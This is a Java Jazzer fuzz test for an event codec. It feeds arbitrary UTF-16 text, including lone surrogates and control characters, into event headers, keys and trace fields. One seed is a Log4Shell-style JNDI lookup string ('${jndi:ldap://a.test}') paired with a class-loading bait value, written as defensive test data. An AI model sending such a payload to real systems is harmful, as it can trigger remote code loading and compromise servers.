package io.sealane.fuzz;

import com.code_intelligence.jazzer.junit.FuzzTest;
import io.sealane.event.Envelope;
import io.sealane.event.EventMetadata;
import io.sealane.event.TraceContext;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The writer: any text as headers, key and trace. The lines are texts in UTF-16, halves and all.
 */
class HeadersFuzzTest {

  private static final Judge JUDGE = new Judge(Language.CODEC);
  private static final Instant TIME = Instant.parse("2026-11-22T10:15:30.123456Z");

  static Stream<Arguments> seeds() {
    return Stream.of(
            "key\ntrace\nstate\ntenant\n\u0001\n\uD83D\uDE00\n\"\\\u2028",
            "\uD83D\n\u0007\n\u0001\n\uDE00\n\uD800\n",
            "\n\n\n\n\n\n",
            "${jndi:ldap://a.test}\n" + LoadedClasses.BAIT)
        .map(text -> Arguments.of((Object) text.getBytes(StandardCharsets.UTF_16BE)));
  }

  @MethodSource("seeds")
  @FuzzTest
  void anyTextIsReadBackOrRefused(byte[] input) {
    String text = Canary.expand(utf16(input));
    List<String> lines = List.of(text.split("\n", -1));
    String trace = line(lines, 1);
    EventMetadata metadata =
        new EventMetadata(
            "e-1",
            "fuzz.Plain",
            1,
            "fuzz",
            TIME,
            line(lines, 0),
            "e-1",
            line(lines, 1),
            trace == null ? null : new TraceContext(trace, line(lines, 2)),
            headers(lines),
            null);
    JUDGE.write(new Envelope<>(new Language.Plain(String.valueOf(line(lines, 0)), 1), metadata));
  }

  private static Map<String, String> headers(List<String> lines) {
    Map<String, String> headers = new HashMap<>();
    for (int i = 3; i + 1 < lines.size(); i += 2) {
      headers.put(lines.get(i), lines.get(i + 1));
    }
    return headers;
  }

  private static @Nullable String line(List<String> lines, int index) {
    return index < lines.size() ? lines.get(index) : null;
  }

  /** Unlike a decoder, keeps what is no character. */
  private static String utf16(byte[] input) {
    StringBuilder text = new StringBuilder();
    for (int i = 0; i + 1 < input.length; i += 2) {
      text.append((char) ((input[i] & 0xff) << 8 | input[i + 1] & 0xff));
    }
    return text.toString();
  }
}
